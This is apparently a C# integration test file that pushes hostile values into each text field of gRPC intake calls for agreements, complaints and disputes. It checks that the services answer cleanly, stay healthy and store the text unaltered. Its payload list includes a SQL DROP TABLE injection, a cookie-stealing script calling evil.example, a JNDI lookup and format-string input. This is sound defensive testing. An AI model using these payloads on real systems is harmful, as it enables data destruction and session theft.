using Google.Protobuf;
using Google.Protobuf.Reflection;
using Grpc.Core;
using Grpc.Health.V1;
using Platform.Contracts.Agreements.V1;
using Platform.Contracts.Complaints.V1;
using Platform.Contracts.Disputes.V1;
using Platform.IntegrationTests.Infrastructure;
using Platform.IntegrationTests.Services.Complaints;
using Platform.IntegrationTests.Services.Disputes;

namespace Platform.IntegrationTests.Services;

/// <summary>
/// The intake RPCs with an otherwise valid request and one text field at a time set to a hostile value, so
/// the value gets past the first check and reaches the domain and the database: each call ends in a clear
/// answer, and text that is accepted comes back exactly as sent, never executed or altered.
/// </summary>
[Collection(PlatformCollectionDefinition.Name)]
public sealed class HostileFieldTests(FourServices services) : IClassFixture<FourServices>
{
    private static readonly string[] s_hostile =
    [
        "Robert'); DROP TABLE complaints; --",
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
        "\u0000\u0007\u001b[2J\r\n\t\u202e",
        new string('x', 20_000),
        "   ",
        "${jndi:ldap://evil.example/a} {{7*7}} %s%s%n",
    ];

    private static readonly HashSet<StatusCode> s_clearAnswers =
        [StatusCode.OK, StatusCode.InvalidArgument, StatusCode.NotFound, StatusCode.FailedPrecondition, StatusCode.AlreadyExists];

    [Fact]
    public async Task CreateAgreement_with_a_hostile_value_in_any_one_text_field_gets_a_clear_answer()
    {
        using var channel = services.Channel("agreements", TestIdentity.Everything);
        var client = new AgreementsService.AgreementsServiceClient(channel);

        await EachHostileFieldAsync(AgreementRequests.Create(), request => client.CreateAgreementAsync(request).ResponseAsync);

        await AssertServingAsync("agreements");
    }

    [Fact]
    public async Task FileComplaint_with_a_hostile_value_in_any_one_text_field_gets_a_clear_answer()
    {
        var agreementId = Guid.Parse(await services.ActiveAgreementAsync());
        using var channel = services.Channel("complaints", TestIdentity.Everything);
        var client = new ComplaintsService.ComplaintsServiceClient(channel);

        await EachHostileFieldAsync(ComplaintRequests.File(agreementId), request => client.FileComplaintAsync(request).ResponseAsync);

        await AssertServingAsync("complaints");
    }

    [Fact]
    public async Task OpenDispute_with_a_hostile_value_in_any_one_text_field_gets_a_clear_answer()
    {
        var agreementId = await services.ActiveAgreementAsync();
        using var channel = services.Channel("disputes", TestIdentity.Everything);
        var client = new DisputesService.DisputesServiceClient(channel);

        await EachHostileFieldAsync(DisputeRequests.Open(agreementId), request => client.OpenDisputeAsync(request).ResponseAsync);

        await AssertServingAsync("disputes");
    }

    [Fact]
    public async Task SQL_and_script_text_is_stored_and_returned_as_plain_text()
    {
        var agreementId = await services.ActiveAgreementAsync();
        using var complaintsChannel = services.Channel("complaints", TestIdentity.Everything);
        using var disputesChannel = services.Channel("disputes", TestIdentity.Everything);
        var complaints = new ComplaintsService.ComplaintsServiceClient(complaintsChannel);
        var disputes = new DisputesService.DisputesServiceClient(disputesChannel);
        var complaint = ComplaintRequests.File(Guid.Parse(agreementId));
        complaint.Subject = s_hostile[0];
        complaint.Description = s_hostile[1];
        var dispute = DisputeRequests.Open(agreementId);
        dispute.Subject = s_hostile[5];

        var filed = (await complaints.FileComplaintAsync(complaint)).Complaint;
        var opened = (await disputes.OpenDisputeAsync(dispute)).Dispute;

        var stored = (await complaints.GetComplaintAsync(new GetComplaintRequest { ComplaintId = filed.Id })).Complaint;
        Assert.Equal((s_hostile[0], s_hostile[1]), (stored.Subject, stored.Description));
        Assert.Equal(s_hostile[5], (await disputes.GetDisputeAsync(new GetDisputeRequest { DisputeId = opened.Id })).Dispute.Subject);
    }

    /// <summary>Sends <paramref name="valid"/> once per text field and hostile value, with a new request id each time.</summary>
    private static async Task EachHostileFieldAsync<TRequest>(TRequest valid, Func<TRequest, Task> call)
        where TRequest : IMessage<TRequest>
    {
        foreach (var (path, set) in TextFields(valid, valid.Descriptor, prefix: string.Empty))
        {
            foreach (var value in s_hostile)
            {
                var request = valid.Clone();
                Renew(request);
                set(request, value);
                var status = StatusCode.OK;
                try
                {
                    await call(request);
                }
                catch (RpcException exception)
                {
                    status = exception.StatusCode;
                    Assert.False(string.IsNullOrWhiteSpace(exception.Status.Detail), $"{path} = {Describe(value)}: {status} without a reason");
                }

                Assert.True(s_clearAnswers.Contains(status), $"{path} = {Describe(value)}: {status}");
            }
        }
    }

    /// <summary>Every non-repeated text field reachable through fields set in <paramref name="message"/>, with a setter on a copy of the request.</summary>
    private static IEnumerable<(string Path, Action<IMessage, string> Set)> TextFields(IMessage message, MessageDescriptor descriptor, string prefix)
    {
        foreach (var field in descriptor.Fields.InDeclarationOrder().Where(f => !f.IsRepeated && !f.IsMap))
        {
            if (field.FieldType == FieldType.String && field.Name != "request_id")
            {
                yield return ($"{prefix}{field.Name}", (request, value) => Set(request, prefix, field, value));
            }
            else if (field.FieldType == FieldType.Message && field.Accessor.GetValue(message) is IMessage nested)
            {
                foreach (var inner in TextFields(nested, field.MessageType, $"{prefix}{field.Name}."))
                {
                    yield return inner;
                }
            }
        }
    }

    /// <summary>Sets <paramref name="field"/> of the message at <paramref name="prefix"/> (dot-separated field names) in <paramref name="request"/>.</summary>
    private static void Set(IMessage request, string prefix, FieldDescriptor field, string value)
    {
        var target = request;
        foreach (var name in prefix.Split('.', StringSplitOptions.RemoveEmptyEntries))
        {
            target = (IMessage)target.Descriptor.FindFieldByName(name).Accessor.GetValue(target);
        }

        field.Accessor.SetValue(target, value);
    }

    private static void Renew(IMessage request)
    {
        if (request.Descriptor.FindFieldByName("request_id") is { } requestId)
        {
            requestId.Accessor.SetValue(request, Guid.NewGuid().ToString());
        }
    }

    private static string Describe(string value) => value.Length > 40 ? $"{value.Length} characters" : $"\"{value}\"";

    private async Task AssertServingAsync(string service)
    {
        using var channel = services.Channel(service, string.Empty);
        Assert.Equal(HealthCheckResponse.Types.ServingStatus.Serving, (await new Health.HealthClient(channel).CheckAsync(new HealthCheckRequest())).Status);
    }
}
